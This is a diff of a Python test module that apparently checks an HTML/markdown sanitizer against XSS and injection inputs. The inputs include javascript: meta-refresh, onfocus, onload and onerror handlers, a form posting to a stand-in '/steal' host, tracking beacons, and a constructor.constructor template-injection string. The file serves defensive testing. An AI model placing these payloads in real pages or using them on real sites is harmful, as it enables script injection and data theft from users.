@@ -78,7 +78,7 @@ def _cases() -> list[Case]:
     tag = f'<meta http-equiv="refresh" content="0;url=javascript:{pwn("meta-refresh")}">'
     add("meta-refresh", tag, tag)
     tag = (
-        '<form id="pwn-form" action="https://evil.example/steal">'
+        '<form id="pwn-form" action="https://pwn.invalid/steal">'
         f'<input autofocus onfocus="{pwn("form-autofocus")}" name="pwn-input"></form>'
     )
     add("form-autofocus", tag, tag)
@@ -140,11 +140,11 @@ def _cases() -> list[Case]:
         "image alt js",
     )
     svg = _b64(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{pwn("md-image-data")}"/>')
+    add("md-image-data", f"![image alt data](data:image/svg+xml;base64,{svg})", "image alt data")
     # Images never load: a tracking pixel would tell a third party the answer was read.
     add("md-image-beacon", "![beacon](https://pwn.invalid/beacon.png?read=1)", "beacon")
     tag = '<link rel="prefetch" href="https://pwn.invalid/prefetch"><video poster=//pwn.invalid/p>'
     add("link-prefetch", tag, tag)
-    add("md-image-data", f"![image alt data](data:image/svg+xml;base64,{svg})", "image alt data")
     add(
         "md-image-onerror-url",
         f'![alt onerror](https://example.com/x.png" onerror="{pwn("md-image-onerror-url")})',
@@ -222,7 +222,7 @@ def _cases() -> list[Case]:
     add("math-frac-inline", "$" + "\\frac{1}{" * 5000 + "x" + "}" * 5000 + "$ after", "after")
 
     # --- text that looks like templates ---------------------------------------------------------
-    body = f"{{{{constructor.constructor('{pwn('template-curly')}')()}}}}"
+    body = f'{{{{constructor.constructor("{pwn("template-curly")}")()}}}}'
     add("template-curly", body, body)
     # One "$" per paragraph: two in one would pair up as (harmless) math, as in Pandoc.
     body = f"${{{pwn('template-dollar')}}} in a template.\n\n`${{alert('template-dollar')}}`"
